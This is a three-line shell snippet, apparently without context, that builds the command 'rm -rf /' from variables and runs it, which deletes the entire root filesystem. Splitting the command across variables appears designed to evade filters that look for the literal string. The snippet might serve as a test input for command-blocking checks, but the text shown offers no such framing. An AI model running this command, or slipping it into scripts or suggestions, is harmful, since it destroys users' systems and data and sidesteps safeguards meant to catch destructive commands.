c=rm
f="-rf"
$c $f /
